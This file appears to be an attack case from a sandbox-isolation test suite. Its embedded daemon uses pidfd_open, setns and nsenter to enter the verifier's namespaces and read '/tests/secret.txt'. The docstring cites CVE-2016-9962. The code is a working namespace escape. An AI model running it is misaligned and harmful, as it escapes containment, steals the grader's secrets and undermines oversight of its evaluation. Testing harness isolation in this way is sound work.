"""Enters the verifier's namespaces by its pidfd and by nsenter.

Source: man 2 setns; CVE-2016-9962 (runc exec: a process of another world can be reached while it enters).
"""

from attacks.frame import SEEN, Attack, python_daemon

ATTACK = Attack(
    "shell",
    python_daemon("""
import subprocess
for pid in verifiers():
    fd = os.pidfd_open(pid)
    for kind in (0x20000, 0x10000000, 0x10020000, 0x20000000):
        if os.fork() == 0:
            if libc.setns(fd, kind) == 0:
                with contextlib.suppress(OSError):
                    keep(open("/tests/secret.txt", "rb").read())
            os._exit(0)
    for flags in ("-m", "-Um", "-a"):
        done = subprocess.run(["nsenter", "-t", str(pid), flags, "cat", "/tests/secret.txt"], capture_output=True)
        keep(done.stdout)
    os.close(fd)
"""),
    ran=SEEN,
)
